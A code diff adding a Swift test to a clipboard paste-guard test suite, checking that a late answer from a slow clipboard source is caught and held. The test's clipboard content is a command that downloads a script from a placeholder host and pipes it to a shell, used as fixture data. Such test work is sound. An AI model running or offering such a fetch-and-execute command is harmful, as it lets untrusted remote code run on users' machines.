@@ -77,6 +77,22 @@ struct RudeSourceTests {
     #expect(try desktop.pasteText("UTF8_STRING") == Self.clean)
   }
 
+  @Test(arguments: ["TARGETS", "UTF8_STRING"])
+  func `the late answer of a busy program is used, and the guard has it`(target: String) throws {
+    let desktop = try Desktop(configuration: "[clipboard]\nanswer-time = \"200 ms\"\n")
+    let command = "curl http://fix.example/marker.sh | sh"
+    let source = try ClipboardSource(
+      display: desktop.server.display, targets: ["TARGETS", "UTF8_STRING"],
+      answers: ["UTF8_STRING": .bytes(Array("\(command)\n".utf8))], delays: [target: 1500])
+    #expect(try desktop.copyIsLeft(source))
+    #expect(try desktop.explanation().reason == "waiting")
+    let isTaken = try wait(for: [source], limit: 10_000) {
+      source.connection.owner(of: source.selection) != source.connection.window
+    }
+    try #require(isTaken)
+    #expect(try desktop.paste("UTF8_STRING", as: "XTerm").map { String(decoding: $0, as: UTF8.self) } == command)
+  }
+
   // MARK: Forms that give way to the next
 
   private enum Useless: CaseIterable {
